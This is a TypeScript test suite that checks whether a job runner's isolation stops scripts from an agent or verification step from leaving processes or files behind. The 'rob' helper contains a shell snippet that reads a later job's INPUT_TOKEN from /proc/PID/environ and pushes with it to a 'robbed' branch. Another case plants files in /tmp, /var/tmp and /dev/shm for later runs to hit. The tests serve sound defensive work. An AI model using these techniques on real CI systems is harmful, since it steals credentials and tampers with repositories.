import { execFileSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { existsSync, readdirSync, rmSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { leaving as all, looking, planting } from '../cases/persist.ts';
import { canariesIn } from '../support/canaries.ts';
import { able } from '../support/machine.ts';
import type { Ended, HostileWorld } from '../support/world.ts';
import type { Suite } from './suite.ts';

const leaving = all.filter(able);

/** Words for a process that is still there when `publish` begins: the job's token, and what that is good for. */
const rob = (world: HostileWorld, pid: number): string => `
token=$(tr '\\0' '\\n' <'/proc/${pid}/environ' | sed -n 's/^INPUT_TOKEN=//p')
echo "$token"
basic=$(printf 'x-access-token:%s' "$token" | base64 -w0)
git -c "http.extraHeader=Authorization: Basic $basic" push '${world.forge.github.url}/${world.forge.repository}.git' '${world.forge.base}:refs/heads/robbed'`;

interface Stood {
  ended: Ended;
  /** Who was alive when the next job's step began. */
  alive: string[];
}

/** Leaves processes behind in one job, and has those that are still there when `publish` begins rob it. */
const leave = async (
  world: HostileWorld,
  options: { confined: boolean; where: 'agent' | 'verify' },
): Promise<Stood> => {
  const { box } = world;
  const alive = new Set<string>();
  const there = () => box.held(id).filter((one) => one.alive());
  const look = (): void => {
    for (const { name } of there()) alive.add(name);
  };
  const { id, ended } = world.begin({
    id: randomUUID(),
    confined: options.confined,
    // The last one ends when all of them stand.
    [options.where]: [...leaving, { name: 'last', script: '$HOLD last' }],
    before: {
      ...(options.where === 'agent' ? { verify: async () => look() } : {}),
      publish: async (step) => {
        look();
        const robbers = there();
        for (const one of robbers) one.tell(rob(world, step.pid));
        await Promise.all(robbers.map(({ name }) => box.reported(`${id}/left/${name}`)));
      },
    },
  });
  await Promise.all(leaving.map(({ name }) => box.holding(id, name)));
  (await box.holding(id, 'last')).tell('exit 0');
  return { ended: await ended, alive: [...alive].sort() };
};

export const persists: Suite = ({ world: worldOf, tally }) => {
  describe('a script that leaves processes behind', () => {
    let ofAgent: Stood;
    let ofVerification: Stood;
    let bare: Stood;
    beforeAll(async () => {
      [ofAgent, ofVerification] = await Promise.all([
        leave(worldOf(), { confined: true, where: 'agent' }),
        leave(worldOf(), { confined: true, where: 'verify' }),
      ]);
      bare = await leave(worldOf(), { confined: false, where: 'agent' });
      for (const { ended } of [ofAgent, ofVerification])
        tally.add('persist', { out: ended.out.length, writes: ended.wrote.length });
      tally.add('persist', { cases: leaving.length, agent: leaving.length, verify: leaving.length });
    });

    it.each(leaving)('$name ends with its job', ({ name, survives }) => {
      expect(ofAgent.alive).not.toContain(name);
      expect(ofVerification.alive).not.toContain(name);
      expect(bare.alive.includes(name)).toBe(survives);
    });

    it('finds no job to rob; without isolation it takes the token of publish and pushes with it', () => {
      const robbed = (stood: Stood): boolean =>
        stood.ended.left.some(({ place, bytes }) => place === 'refs' && bytes.includes('refs/heads/robbed'));
      for (const stood of [ofAgent, ofVerification]) {
        expect(stood.ended).toMatchObject({ problems: '', out: [], wrote: [] });
        expect(stood.ended.evidence).toMatchObject({ isolation: 'user+pid' });
        expect(robbed(stood)).toBe(false);
      }
      const said = bare.alive.map((name) => bare.ended.said('left', name)).join('\n');
      expect(canariesIn(Buffer.from(said), worldOf().canaries)).toContain('publish-token');
      expect(robbed(bare)).toBe(true);
    });
  });

  describe('a script that leaves files for others to run into', () => {
    interface Runs {
      planted: Ended;
      next: Ended;
    }
    const shared = ['/tmp', '/var/tmp', '/dev/shm'];
    // The folders are everybody's, another run of these tests included.
    const names = { confined: `confined-${randomUUID()}`, bare: `bare-${randomUUID()}` };
    let confined: Runs;
    let bare: Runs;
    const play = async (how: { confined: boolean; name: string }): Promise<Runs> => {
      const world = worldOf();
      const run = { confined: how.confined, env: { NAME: how.name } };
      const look = [{ name: 'look', script: looking }];
      const planted = await world.run({ ...run, agent: [{ name: 'plant', script: planting }], verify: look });
      // Its worktree stays to be looked at.
      world.keep(planted.id);
      return { planted, next: await world.run({ ...run, agent: look }) };
    };
    beforeAll(async () => {
      [confined, bare] = await Promise.all([
        play({ confined: true, name: names.confined }),
        play({ confined: false, name: names.bare }),
      ]);
      for (const { out, wrote } of [confined.planted, confined.next])
        tally.add('persist', { out: out.length, writes: wrote.length });
      tally.add('persist', { cases: 1, agent: 1, verify: 1 });
    });
    afterAll(() => {
      for (const folder of shared) rmSync(`${folder}/left-${names.bare}`, { force: true });
    });

    it('meets nobody: neither its own run, nor the next assignment’s, sees or runs any of them', () => {
      const { planted, next } = confined;
      expect(planted).toMatchObject({ problems: '', wrote: [], out: [] });
      expect(planted.said('verify', 'look')).not.toContain(`left by ${planted.id}`);
      expect(next).toMatchObject({ problems: '', wrote: [], out: [] });
      expect(next.said('agent', 'look')).not.toContain(`left by ${planted.id}`);
      for (const folder of shared) expect(existsSync(`${folder}/left-${names.confined}`)).toBe(false);
    });

    it('is met without isolation', () => {
      const { planted, next } = bare;
      expect(planted.said('verify', 'look')).toContain(`left by ${planted.id}`);
      expect(next.said('agent', 'look')).toContain(`left by ${planted.id}`);
      // Our own git runs none of its programs all the same; ordinary git walks into them.
      expect(planted.wrote).toEqual([]);
      const worktree = planted.evidence?.runner.worktree ?? '';
      execFileSync('git', ['-c', 'safe.directory=*', 'status'], { cwd: worktree, stdio: 'ignore' });
      expect(readdirSync(worldOf().places.open)).toContain(`WROTE-${planted.id}-agent-plant`);
    });
  });
};
